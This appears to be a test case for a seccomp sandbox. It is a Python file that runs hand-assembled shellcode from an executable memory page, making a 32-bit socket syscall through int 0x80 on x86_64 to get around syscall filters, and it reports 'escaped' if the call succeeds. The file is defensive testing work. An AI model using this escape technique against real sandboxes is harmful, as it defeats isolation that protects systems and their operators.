"""Calls the kernel as a 32-bit program does, where the same calls have other numbers.

guard: seccomp
told: SIGSYS
machine: x86_64
"""

import ctypes
import mmap

SOCKET = bytes.fromhex(
    "53"  # push rbx
    "b867010000"  # mov eax, 359: socket
    "bb02000000"  # mov ebx, AF_INET
    "b901000000"  # mov ecx, SOCK_STREAM
    "31d2"  # xor edx, edx
    "cd80"  # int 0x80
    "5b"  # pop rbx
    "c3"  # ret
)


def attack():
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(SOCKET)
    where = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return f"escaped: descriptor {ctypes.CFUNCTYPE(ctypes.c_int)(where)()}"
